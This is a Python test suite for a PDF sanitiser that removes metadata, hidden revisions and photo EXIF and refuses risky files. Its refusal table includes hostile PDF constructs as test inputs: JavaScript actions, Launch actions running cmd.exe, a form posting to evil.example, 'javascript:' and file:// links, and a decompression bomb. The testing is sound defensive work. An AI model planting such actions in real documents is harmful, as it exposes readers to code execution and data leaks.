"""What the site makes of a PDF: the same pages, nothing of its makers, the same bytes each time; or why it refuses."""

import base64
import contextlib
import io
import time
import zlib

import pikepdf
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

import pdfs
from pictures import photo
from vigie.attachments import refused
from vigie.attachments.clean import Cleaned, clean
from vigie.attachments.jpeg import NotAPicture, only_what_draws

TITLE = "Rapport d’essai"


def _cleaned(raw, title=TITLE, lang="fr"):
    made = clean(raw, title, lang)
    assert isinstance(made, Cleaned), made
    return made


def _open(made):
    return pikepdf.open(io.BytesIO(made.data))


def _everything(data):
    """Every byte that a reader can unpack from a document, and the file itself."""
    found = [data]
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for held in pdf.objects:
            if isinstance(held, pikepdf.Stream):
                found.append(held.read_raw_bytes())
            found.append(held.unparse(resolved=False))
            if isinstance(held, pikepdf.Stream) and str(held.get("/Filter", "")) == "/FlateDecode":
                found.append(held.read_bytes())
        found.append(pdf.trailer.unparse())
    return b"\n".join(found)


def test_nothing_is_left_of_who_made_it_when_where_and_with_what():
    """The original tells each of the secrets; what is served tells none, in no stream, and keeps pages, words and links."""
    raw = pdfs.telling()
    assert [secret for secret in pdfs.SECRETS if secret not in _everything(raw)] == []
    made = _cleaned(raw)
    assert [secret for secret in pdfs.SECRETS if secret in _everything(made.data)] == []
    reader = pypdf.PdfReader(io.BytesIO(made.data))
    assert "Mots de la page 2" in reader.pages[1].extract_text()
    assert reader.pages[0]["/Annots"][0].get_object()["/A"]["/URI"] == "https://www.example.org/a?b=1"
    assert reader.pages[0].images[0].image.size == (400, 200)
    assert made.pages == 2


def test_its_only_words_about_itself_are_its_title_and_language():
    """What the text says of it; the bar of the window shows the title, and the way of turning pages is kept."""
    pdf = pdfs.good()
    pdf.Root.Lang, pdf.Root.ViewerPreferences = String("en-US"), Dictionary(Direction=Name.R2L, HideMenubar=True)
    made = _open(_cleaned(pdfs.written(pdf), "تقرير", "ar"))
    assert str(made.Root.Lang) == "ar"
    assert dict(made.trailer.Info) == {"/Title": "تقرير"}
    assert dict(made.Root.ViewerPreferences) == {"/DisplayDocTitle": True, "/Direction": Name.R2L}
    assert "/Metadata" not in made.Root


def test_the_catalog_keeps_what_readers_need():
    """Where to begin, the names of places, layers without their names; nothing that only a program knows."""
    made = _open(_cleaned(pdfs.telling()))
    assert set(made.Root.keys()) == {
        "/Type", "/Pages", "/Lang", "/StructTreeRoot", "/Names", "/OCProperties", "/ViewerPreferences",
    }  # fmt: skip
    assert set(made.Root.Names.keys()) == {"/Dests"}
    assert set(made.Root.OCProperties.keys()) == {"/OCGs", "/D"}
    assert set(made.Root.OCProperties.D.keys()) == {"/ON"}
    assert str(made.Root.OCProperties.OCGs[0].Name).isdigit()
    begun = _open(_cleaned(pdfs.opening(S=Name.GoTo, D=Array([0, Name.Fit]))))
    assert str(begun.Root.OpenAction.S) == "/GoTo"


def test_the_same_document_gives_the_same_bytes():
    """Whatever it was called before; another title gives others."""
    first = _cleaned(pdfs.telling())
    time.sleep(1.1)  # an identifier of the hour would be another
    assert _cleaned(pdfs.telling()) == first
    assert _cleaned(pdfs.telling(), "Autre").data != first.data
    pdf = pikepdf.open(io.BytesIO(pdfs.document()))
    pdf.trailer.ID = Array([String("a" * 16), String("b" * 16)])
    assert _cleaned(pdfs.written(pdf)).data == _cleaned(pdfs.document()).data


def test_what_was_erased_in_a_later_version_is_gone():
    """A PDF can keep its older versions behind the last one: only what is reached is written again."""
    raw = pdfs.changed_later()
    assert b"Jeanne Secret" in _everything(raw)
    assert b"Jeanne Secret" not in _everything(_cleaned(raw).data)


PROGRAM = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
REFUSED = {
    "javascript at opening": (pdfs.opening(**PROGRAM), "un programme"),
    "javascript disguised as an element": (pdfs.disguised(as_element=False, **PROGRAM), "un programme"),
    "javascript among the elements": (pdfs.disguised(**PROGRAM), "un programme"),
    "a program disguised as an element": (
        pdfs.disguised(as_element=False, S=Name.Launch, F=String("cmd.exe")),
        "ouvre un programme",
    ),
    "a program among the elements": (pdfs.disguised(S=Name.Launch, F=String("cmd.exe")), "ouvre un programme"),
    "an action without argument, disguised": (pdfs.disguised(as_element=False, S=Name.Sound), "son, de la vidéo"),
    "javascript in a stream of names": (pdfs.form(S=Name.JavaScript), "un programme"),
    "javascript of a rendition": (pdfs.opening(S=Name.Rendition, JS=String("x")), "un programme"),
    "a program to launch": (pdfs.opening(S=Name.Launch, F=String("cmd.exe")), "ouvre un programme"),
    "another file to open": (pdfs.opening(S=Name.GoToR, F=String("C:/Jeanne/a.pdf")), "ouvre un programme"),
    "a form that sends": (pdfs.form(S=Name.SubmitForm, F=String("https://evil.example/")), "formulaire qui envoie"),
    "a form that imports": (pdfs.form(S=Name.ImportData, F=String("a")), "formulaire qui envoie"),
    "a form of another language": (pdfs.with_key("/XFA"), "un programme"),
    "a signature": (pdfs.with_key("/ByteRange"), "signé"),
    "a file inside": (pdfs.holding(), "contient d’autres fichiers"),
    "a file tied to a page": (pdfs.tied(), "contient d’autres fichiers"),
    "a file pinned on a page": (pdfs.annotated("/FileAttachment"), "contient d’autres fichiers"),
    "a film": (pdfs.annotated("/RichMedia"), "son, de la vidéo"),
    "a sound": (pdfs.opening(S=Name.Sound), "son, de la vidéo"),
    "a remark of a proof-reader": (pdfs.annotated("/Text"), "commentaires de relecture"),
    "words struck out": (pdfs.annotated("/StrikeOut"), "commentaires de relecture"),
    **{
        f"{kind[1:]} {'on the page' if placed else 'without place'}": (
            pdfs.annotated(kind, placed=placed),
            "commentaires de relecture",
        )
        for kind in (
            "/Text",
            "/Ink",
            "/FreeText",
            "/Stamp",
            "/Line",
            "/Square",
            "/Circle",
            "/Polygon",
            "/PolyLine",
            "/Redact",
        )
        for placed in (True, False)
    },
    "a shortened link": (pdfs.linked("https://lnkd.in/abc"), "adresse raccourcie"),
    "a link that runs": (pdfs.linked("javascript:alert(1)"), "un lien de ce PDF"),
    "a link to the author's disk": (pdfs.linked("file:///C:/Users/Jeanne/a.docx"), "un lien de ce PDF"),
    "a link to a shared disk": (pdfs.linked("\\\\serveur\\dossier"), "un lien de ce PDF"),
    "a password to read": (pdfs.locked(user="a", owner="b"), "protégé"),
    "a password to print": (pdfs.locked(owner="b"), "protégé"),
    "no page": (pdfs.written(pdfs.blank(0)), "vide"),
    "a blank page": (pdfs.written(pdfs.blank()), "vide"),
    "three blank pages": (pdfs.written(pdfs.blank(3)), "vide"),
    "a title to fill": (pdfs.named("À COMPLÉTER"), "pas le vrai document"),
    "a title that holds a place": (pdfs.named("Placeholder PDF"), "pas le vrai document"),
    "another header": (pdfs.document().replace(b"%PDF-", b"%XDF-"), "pas un PDF entier"),
    "half of a file": (pdfs.document(9)[:-200], "pas un PDF entier"),
    "a file that unpacks for ever": (pdfs.unpacked_huge(), "pas un PDF entier"),
    "a broken photo": (pdfs.with_picture(photo()[:-300], Name.DCTDecode), "une image de ce PDF"),
    "a photo of another kind, with words": (pdfs.with_picture(b"jP  uuidGPS", Name.JPXDecode), "une image de ce PDF"),
    **{f"no PDF but {name}": (raw, "pas un PDF entier") for name, raw in pdfs.NOT_A_PDF.items()},
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_could_harm_or_is_not_there_is_refused(name):
    """In French, with what to do; never half cleaned."""
    raw, says = REFUSED[name]
    made = clean(raw, TITLE, "fr")
    assert isinstance(made, tuple), made
    assert says in made[0]
    assert made[1]


ACCEPTED = {
    "a link": pdfs.linked("https://www.example.org/?a=1"),
    "an address to write to": pdfs.linked("mailto:contact@example.org"),
    "a link without scheme": pdfs.linked("www.example.org/page"),
    "a form to fill by hand": pdfs.form(),
    "a page to open first": pdfs.opening(S=Name.GoTo, D=Array([0, Name.Fit])),
    "a title like another": pdfs.named("Le rapport à l’Assemblée"),
    "another picture": pdfs.with_picture(b"jP  jp2c", Name.JPXDecode),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_what_a_document_may_hold_is_kept(name):
    """Links of the web, forms that send nothing, a page to begin with."""
    assert _cleaned(ACCEPTED[name]).pages == 1


def test_four_blank_pages_are_somebody_s_choice():
    """And a page with nothing but a picture or a line is not blank."""
    assert _cleaned(pdfs.written(pdfs.blank(4))).pages == 4
    pdf = pdfs.good()
    pdfs.jpeg_in(pdf)
    assert _cleaned(pdfs.written(pdf)).pages == 1


def test_tags_are_kept_and_their_lack_is_told():
    """A screen reader needs them; the role of an element is no action, whatever its name."""
    assert _cleaned(pdfs.document()).tagged
    assert not _cleaned(pdfs.written(pdfs.good(tagged=False))).tagged


def test_memory_is_bounded_before_anything_is_unpacked():
    """A file of 200 kB that says to unpack into 200 MB stops at the bound."""
    pikepdf.settings.set_qpdf_limits(flate_max_memory=0, run_length_max_memory=0)
    clean(pdfs.unpacked_huge(), TITLE, "fr")
    limits = pikepdf.settings.get_qpdf_limits()
    assert 0 < limits["flate_max_memory"] <= 100_000_000
    assert 0 < limits["run_length_max_memory"] <= 100_000_000


def test_a_document_with_too_many_objects_is_refused(monkeypatch):
    """It would hold the build."""
    monkeypatch.setattr(refused, "MOST_OBJECTS", 5)
    assert "trop compliqué" in clean(pdfs.document(), TITLE, "fr")[0]


@pytest.mark.parametrize("packing", ["flate", "ascii"])
def test_a_photo_packed_twice_is_cleaned_too(packing):
    """Compressed or written in letters over its own compression; what decodes it stays with it."""
    pdf = pdfs.good()
    image = pdfs.jpeg_in(pdf)
    packed = zlib.compress(photo()) if packing == "flate" else base64.a85encode(photo()) + b"~>"
    outer = Name.FlateDecode if packing == "flate" else Name.ASCII85Decode
    image.write(packed, filter=Array([outer, Name.DCTDecode]))
    image.DecodeParms = Array([Dictionary(), Dictionary(ColorTransform=1)])
    made = _open(_cleaned(pdfs.written(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)))
    shown = made.pages[0].Resources.XObject.Im1
    assert shown.Filter == Name.DCTDecode
    assert int(shown.DecodeParms.ColorTransform) == 1
    assert not [secret for secret in (b"Canon", b"Exif", b"Jeanne") if secret in shown.read_raw_bytes()]


def test_a_photo_keeps_its_points_and_loses_what_follows_it():
    """The very same drawing; a second picture behind the first one is gone."""
    from PIL import Image

    made = only_what_draws(photo() + b"Jeanne Secret")
    same = (Image.open(io.BytesIO(raw)).tobytes() for raw in (made, photo()))
    assert len(set(same)) == 1
    assert not [secret for secret in (b"Canon", b"Exif", b"Jeanne", b"http") if secret in made]


@settings(max_examples=200)
@given(st.data())
def test_a_damaged_photo_is_followed_to_its_end_or_refused(data):
    """Neither a loop without end nor any other error."""
    raw = bytearray(photo((16, 16)))
    for _ in range(data.draw(st.integers(1, 5))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(NotAPicture):
        only_what_draws(bytes(raw[: data.draw(st.integers(0, len(raw)))]))


@settings(max_examples=100)
@given(st.data())
def test_a_damaged_document_is_cleaned_or_refused(data):
    """Never an error of the program."""
    raw = bytearray(pdfs.document())
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    made = clean(bytes(raw), TITLE, "fr")
    assert isinstance(made, Cleaned) or (made[0] and made[1])
